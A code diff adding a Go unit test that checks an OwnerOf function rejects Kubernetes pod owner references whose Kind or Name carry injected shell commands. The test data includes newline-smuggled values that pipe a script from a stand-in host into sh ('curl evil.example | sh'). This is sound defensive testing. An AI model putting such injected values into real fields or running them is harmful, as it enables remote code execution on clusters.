@@ -308,3 +308,22 @@ func BenchmarkNew(b *testing.B) {
 		}
 	}
 }
+
+// TestOwnerOfHostilePod: a pod's author writes what it belongs to, and the API server looks at neither kind nor name. Both go into lists of
+// commands, where a new line is a command.
+func TestOwnerOfHostilePod(t *testing.T) {
+	t.Parallel()
+	for _, owner := range []metav1.OwnerReference{
+		{Kind: "StatefulSet\ncurl evil.example | sh #", Name: "web"}, {Kind: "StatefulSet", Name: "web\ncurl evil.example | sh"}, {Kind: "a; b", Name: "web"},
+	} {
+		owner.Controller = new(true)
+		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{OwnerReferences: []metav1.OwnerReference{owner}}}
+		if kind, name := OwnerOf(pod); kind != "" || name != "" {
+			t.Errorf("%q %q", kind, name)
+		}
+	}
+	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{OwnerReferences: []metav1.OwnerReference{{Kind: "RayCluster", Name: "r.1", Controller: new(true)}}}}
+	if kind, name := OwnerOf(pod); kind != "RayCluster" || name != "r.1" {
+		t.Errorf("%q %q", kind, name)
+	}
+}
